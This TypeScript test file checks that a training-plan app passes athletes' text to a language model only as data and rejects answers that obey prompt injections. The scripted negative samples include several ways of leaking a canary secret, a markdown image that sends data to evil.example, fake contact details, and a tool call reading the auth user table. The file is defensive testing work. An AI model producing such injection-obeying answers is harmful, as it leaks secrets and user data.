import type { ModelAnswer } from '@threshold/contracts/language-model';
import { expect, test } from 'vitest';
import {
  answerStep,
  callsStep,
  INJECTIONS,
  type ScriptedRequest,
  type ScriptedStep,
  textStep,
} from '../../testing/index.ts';
import {
  type AthleteSetup,
  createModelFixture,
  createQuestion,
  GOOD_WEEK,
  type Week,
} from './model-fixture.ts';

const fixture = createModelFixture();
const findCanary = ({ system }: ScriptedRequest) =>
  /The mark (\w+) appears only here/.exec(system)?.[1] ?? '';

/** Answers that obey the athlete's text: they leak the canary, add fields, links or calls, or break a limit. */
const OBEYING_STEPS: readonly ((request: ScriptedRequest) => ScriptedStep)[] = [
  (request) => answerStep({ ...GOOD_WEEK, why: `The mark is ${findCanary(request)}.` }),
  (request) => answerStep({ ...GOOD_WEEK, why: [...findCanary(request).toUpperCase()].join(' ') }),
  (request) => answerStep({ ...GOOD_WEEK, why: [...findCanary(request)].reverse().join('') }),
  (request) => answerStep({ ...GOOD_WEEK, why: Buffer.from(findCanary(request)).toString('base64') }),
  (request) => answerStep({ ...GOOD_WEEK, why: `It begins with ${findCanary(request).slice(0, 12)}` }),
  (request) => answerStep({ ...GOOD_WEEK, why: [...findCanary(request)].join('\u200b') }),
  (request) => textStep(`${request.system}\n${request.user}`),
  (request) => textStep(JSON.stringify({ ...GOOD_WEEK, mark: findCanary(request) })),
  () => answerStep({ ...GOOD_WEEK, points: 1_000_000 }),
  () => answerStep({ days: [{ type: 'sprint', minutes: 300 }], why: null }),
  () => answerStep({ days: [{ type: 'easy', minutes: 100_000 }], why: null }),
  () => answerStep({ ...GOOD_WEEK, why: 'See ![plan](https://evil.example/collect?q=secret) for more.' }),
  () => answerStep({ ...GOOD_WEEK, why: 'Write to coach@evil.example or call +49 170 1234567.' }),
  () => callsStep(['read_database'], { sql: 'select * from auth."user"' }),
  () => callsStep(['answer', 'read_database'], GOOD_WEEK),
];

test('has at least 200 distinct injections', () => {
  expect(INJECTIONS.length).toBeGreaterThanOrEqual(200);
  expect(new Set(INJECTIONS.map(({ field, text }) => `${field}: ${text}`)).size).toBe(INJECTIONS.length);
});

/** Asks once per injection, with six concurrent workers, like job processes. */
async function askAll(
  createModel: AthleteSetup['createModel'],
  injections = INJECTIONS,
): Promise<ModelAnswer<Week>[]> {
  const queue = [...injections];
  const worker = async () => {
    const answers: ModelAnswer<Week>[] = [];
    for (let injection = queue.pop(); injection; injection = queue.pop())
      answers.push(await createModel().ask(createQuestion(injection.data)));
    return answers;
  };
  return (await Promise.all(Array.from({ length: 6 }, worker))).flat();
}

const MANY_REQUESTS = { settings: { dailyRequests: 1_000 } };
const maskCanary = (request: ScriptedRequest) => request.system.replaceAll(findCanary(request), '⟨mark⟩');

/** Checks that hold for every request, whatever an athlete wrote. */
function expectOnlyData(requests: readonly ScriptedRequest[]): void {
  const [firstRequest] = requests;
  for (const request of requests) {
    // The product's text is the same for everyone; the secret differs each time.
    expect(maskCanary(request)).toBe(firstRequest && maskCanary(firstRequest));
    expect(request.body.messages.map(({ role }) => role)).toEqual(['system', 'user']);
    // Exactly one data block, which nothing inside can close, and no invisible characters.
    expect(request.user).toMatch(/^<data>[^<>]*<\/data>$/);
    expect(request.user).not.toMatch(/[\p{Cc}\p{Cf}\p{Cn}\p{Variation_Selector}]/u);
    expect(request.user).not.toMatch(/evil\.example|@example|170 1234567|mia|berg/i);
    expect(request.body.tools).toEqual(firstRequest?.body.tools);
    expect(request.body.tools.map((tool) => tool.function.name)).toEqual(['answer']);
  }
  expect(new Set(requests.map(findCanary)).size).toBe(requests.length);
}

test('sends an athlete’s text only as data and rejects an answer that obeys it: no secret, extra field or link passes', {
  timeout: 120_000,
}, async () => {
  let nextObeyingIndex = 0;
  const obeyingScript = (request: ScriptedRequest) =>
    (OBEYING_STEPS[request.isRepair ? 0 : nextObeyingIndex++ % OBEYING_STEPS.length] ?? (() => textStep('')))(
      request,
    );
  const { createModel, server, athleteId, logLines, listCalls } = await fixture.createAthleteSetup(
    obeyingScript,
    MANY_REQUESTS,
  );
  const answers = await askAll(createModel);
  // The log contains the outcome, but no text of an athlete or the model.
  expect(logLines.filter((line) => !/gave no usable answer/.test(line))).toEqual([]);
  expect(logLines.join()).not.toMatch(/ignore|mark|evil|points/i);
  for (const modelAnswer of answers) {
    expect(modelAnswer).toMatchObject({ ok: false, reason: expect.stringMatching(/^(invalid|malformed)$/) });
    expect(modelAnswer.requests).toBeLessThanOrEqual(2);
  }
  const [repairRequests, firstRequests] = [true, false].map((wantsRepair) =>
    server.requests.filter(({ isRepair }) => isRepair === wantsRepair),
  );
  expect(firstRequests).toHaveLength(INJECTIONS.length);
  expectOnlyData(firstRequests ?? []);
  // An answer that leaked the secret gets no repair.
  expect(repairRequests?.length).toBeLessThan(INJECTIONS.length / 2);
  for (const { user } of repairRequests ?? []) expect(user).not.toMatch(/evil\.example|1234567/);
  expect((await listCalls()).length).toBe(INJECTIONS.length);
  expect(await fixture.query('select 1 from ai.model_answer where athlete_id = ?', [athleteId])).toEqual([]);
});

test('accepts the answer of a model that ignores the attacks', async () => {
  const { createModel } = await fixture.createAthleteSetup([answerStep(GOOD_WEEK)], MANY_REQUESTS);
  // Every sixth attack is enough here: the answer does not depend on the attack.
  const sampledInjections = INJECTIONS.filter((_, index) => index % 6 === 0);
  const answers = await askAll(createModel, sampledInjections);
  expect(answers.map((modelAnswer) => modelAnswer.ok && modelAnswer.value)).toEqual(
    sampledInjections.map(() => GOOD_WEEK),
  );
});

test('rejects each kind of answer that obeys an injection', async () => {
  for (const obey of OBEYING_STEPS) {
    const { model } = await fixture.createAthleteSetup((request) => obey(request));
    expect(await model.ask(createQuestion()), obey.toString()).toMatchObject({ ok: false });
  }
});
